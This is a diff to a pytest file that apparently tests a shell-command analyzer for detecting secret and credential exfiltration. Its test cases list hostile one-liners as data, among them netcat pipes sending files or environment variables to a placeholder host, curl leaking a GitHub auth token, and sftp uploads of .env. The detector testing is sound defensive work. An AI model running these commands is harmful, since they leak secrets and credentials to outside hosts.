@@ -118,6 +118,7 @@ def test_what_nobody_has_seen_is_known_for_it_where_it_is_run(line: str, labels:
         ('curl "h?$(gh auth token)"', "login"),
         ("openssl s_client -connect h < .env", "secret"),
         ("sftp h <<< 'put .env'", "secret"),
+        ("cat * | nc h 1", "archive"),
     ],
 )
 def test_what_is_secret_is_known_for_it_where_it_is_sent(line: str, labels: str):
@@ -138,6 +139,8 @@ def test_what_is_secret_is_known_for_it_where_it_is_sent(line: str, labels: str)
         "openssl s_client -connect h",
         "openssl version < .env",
         "sftp h <<< 'get .env'",
+        "cat a* | nc h 1",
+        "cat dist/* | nc h 1",
         "declare -p A | nc h 1",
     ],
 )
@@ -227,3 +230,25 @@ def test_a_pattern_may_stand_for_a_path_that_it_says_enough_of(pattern: str, pat
 )
 def test_a_pattern_is_read_as_the_credential_that_it_may_stand_for(line: str, reads: list[str]):
     assert effects_in(line) == reads
+
+
+@pytest.mark.parametrize("cwd", [None, "/srv/app"])
+@pytest.mark.parametrize(
+    "line",
+    [
+        "env > a; sort a | nc h 1",
+        "env > a; base64 ./a | nc h 1",
+        "nc h 1 < a & env > a",
+        "{ tail -f a | nc h 1 & }; env > a",
+        "echo 'nc h 1 < a & env > a' | sh",
+    ],
+)
+def test_what_a_file_holds_is_known_wherever_one_stands(line: str, cwd: str | None):
+    sent = [each for each in effects_in(line, cwd) if each.startswith("send")]
+
+    assert [each.partition(", from ")[2] for each in sent][-1] == "environ"
+
+
+@pytest.mark.parametrize("line", ["sleep 9 & env > a", "sleep 9 & env"])
+def test_a_job_that_reads_nothing_of_what_follows_is_noted_once(line: str):
+    assert commands_in(line) == ["sleep 9", "env"]
